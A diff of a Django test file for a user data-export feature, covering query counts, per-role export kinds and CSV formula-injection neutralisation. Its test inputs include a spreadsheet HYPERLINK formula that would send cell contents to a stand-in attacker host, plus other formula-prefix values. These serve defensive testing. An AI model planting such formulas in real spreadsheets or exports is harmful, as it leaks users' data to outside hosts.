@@ -3,12 +3,14 @@ import io
 import json
 
 import pytest
-from django.contrib.admin.models import CHANGE, LogEntry
-from django.contrib.contenttypes.models import ContentType
 from django.urls import reverse
 
-from accounts.selectors import NAMED_KINDS, export_kinds
+from accounts.selectors import EXPORT_KINDS, EXPORTED_MODELS, export_kinds, user_relations
+from moderation.models import ImportRow
+from moderation.services import import_job_create
 from practice.models import Answer
+from progress.services import review_schedule_from_grade
+from questions.models import Question
 from tests.factories import GradeFactory, SessionQuestionFactory
 
 pytestmark = pytest.mark.usefixtures("fast_password_hashing")
@@ -20,15 +22,11 @@ def csv_url(kind: str) -> str:
     return reverse("accounts:data_export_csv", args=[kind])
 
 
-def other_kinds() -> int:
-    """Tables with a column referring to the user besides the named ones: one query each."""
-    return len(export_kinds()) - len(NAMED_KINDS)
-
-
-# django_session, auth_user, the profile, sessions with their questions and those questions (3), answers with
-# grades, review cards, card reviews, then one query per other table referring to the user.
+# django_session, auth_user, the user's and groups' permissions (is the user an instructor?), the profile,
+# sessions with their questions and those questions (3), answers with grades, review cards, card reviews,
+# checklist ticks, mock loops, take-home attempts.
 def json_queries() -> int:
-    return 2 + 1 + 3 + 1 + 1 + 1 + other_kinds()
+    return 2 + 2 + 1 + 3 + 1 + 1 + 1 + 1 + 1 + 1
 
 
 @pytest.mark.parametrize("url", [JSON_URL, csv_url("answers")])
@@ -65,7 +63,7 @@ def test_the_json_export_holds_everything_of_mine(candidate_client, candidate, c
     assert [card["question_key"] for card in data["review_cards"]] == [q.key for q in cell["questions"][:2]]
     assert data["review_cards"][0]["fsrs_card"]["state"] == 2
     assert {r["answer_id"] for r in data["card_reviews"]} == {first["answer_id"], second["answer_id"]}
-    assert set(export_kinds()) <= set(data)
+    assert set(export_kinds(user=candidate)) <= set(data) and "imports" not in data
 
 
 def test_the_json_export_costs_the_same_queries_with_more_data_and_never_holds_anothers(
@@ -86,7 +84,7 @@ def test_the_json_export_costs_the_same_queries_with_more_data_and_never_holds_a
 
 def test_the_answers_csv_has_a_row_per_answer_with_its_grade(candidate_client, candidate, history,
                                                              django_assert_num_queries):
-    with django_assert_num_queries(2 + 1):
+    with django_assert_num_queries(2 + 2 + 1):
         response = candidate_client.get(csv_url("answers"))
 
     assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
@@ -100,34 +98,74 @@ def test_the_answers_csv_has_a_row_per_answer_with_its_grade(candidate_client, c
 @pytest.mark.parametrize(("kind", "queries", "rows"), [("sessions", 3, 2), ("review_cards", 1, 2),
                                                        ("card_reviews", 1, 2)])
 def test_each_named_kind_exports_as_csv(candidate_client, history, kind, queries, rows, django_assert_num_queries):
-    with django_assert_num_queries(2 + queries):
+    with django_assert_num_queries(2 + 2 + queries):
         response = candidate_client.get(csv_url(kind))
 
     assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) == rows
 
 
-def test_another_table_referring_to_me_exports_with_its_own_columns(candidate_client, candidate, other_candidate,
-                                                                    django_assert_num_queries):
-    for user in (candidate, other_candidate):
-        LogEntry.objects.create(user=user, content_type=ContentType.objects.get_for_model(user),
-                                object_id=str(user.pk), object_repr=user.username, action_flag=CHANGE)
-
-    with django_assert_num_queries(2 + 1):
-        response = candidate_client.get(csv_url("admin.logentry"))
-
-    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
-    assert row["user_id"] == str(candidate.pk) and row["object_repr"] == candidate.username
+def test_every_table_referring_to_a_user_is_exported_under_a_plain_name():
+    assert {model for model, _ in user_relations()} == EXPORTED_MODELS
+    assert all("." not in kind for kind in EXPORT_KINDS)
 
 
-def test_a_named_kind_is_exported_only_under_its_name(candidate_client, history, django_assert_num_queries):
-    with django_assert_num_queries(2):
-        response = candidate_client.get(csv_url("practice.practicesession"))
+@pytest.mark.parametrize("kind", ["admin.logentry", "imports", "hand_grades", "banks", "practice.practicesession"])
+def test_a_candidate_has_no_staff_instructor_or_internal_kinds(candidate_client, kind, django_assert_num_queries):
+    with django_assert_num_queries(2 + 2):
+        response = candidate_client.get(csv_url(kind))
 
     assert response.status_code == 404
 
 
 def test_an_unknown_kind_is_not_found(candidate_client, django_assert_num_queries):
-    with django_assert_num_queries(2):
+    with django_assert_num_queries(2 + 2):
         response = candidate_client.get(csv_url("passwords"))
 
     assert response.status_code == 404
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def csv_rows(response) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_as_a_formula_are_neutralised(candidate_client, candidate, cell, formula):
+    question = cell["questions"][0]
+    Question.objects.filter(pk=question.pk).update(title=formula)
+    item = SessionQuestionFactory(session__user=candidate, question=question)
+    grade = GradeFactory(answer__session_question=item, answer__text=formula, feedback=formula, overall="3.0")
+    review_schedule_from_grade(grade_id=grade.pk)
+
+    (answer,) = csv_rows(candidate_client.get(csv_url("answers")))
+    (card,) = csv_rows(candidate_client.get(csv_url("review_cards")))
+
+    for value in (answer["question_title"], answer["text"], answer["feedback"], card["question_title"]):
+        assert value == "'" + formula
+    assert answer["overall"] == "3.0"  # numbers are never formulas: written as they are
+
+
+def test_an_admin_who_uploaded_an_import_gets_the_json_and_csv_exports_without_the_file(client, admin_user):
+    job = import_job_create(filename="=reddit.csv", data=b"text\nHow do you evaluate a RAG system?\n",
+                            uploaded_by=admin_user)
+    ImportRow.objects.create(job=job, row_number=2, outcome=ImportRow.Outcome.IMPORTED, text="How?")
+    ImportRow.objects.create(job=job, row_number=3, outcome=ImportRow.Outcome.DUPLICATE, text="How?")
+    client.force_login(admin_user)
+
+    response = client.get(JSON_URL)
+
+    assert response.status_code == 200
+    (upload,) = json.loads(response.content)["imports"]
+    assert upload["file_name"] == "=reddit.csv" and upload["size_bytes"] == job.size_bytes
+    assert (upload["imported"], upload["duplicates"], upload["errors"]) == (1, 1, 0)
+    assert b"How do you evaluate" not in response.content and "content" not in upload
+
+    response = client.get(csv_url("imports"))
+
+    (row,) = csv_rows(response)
+    assert response.status_code == 200 and row["file_name"] == "'=reddit.csv" and row["imported"] == "1"
+    assert "b'" not in response.content.decode()
+    for kind in export_kinds(user=admin_user):
+        assert client.get(csv_url(kind)).status_code == 200
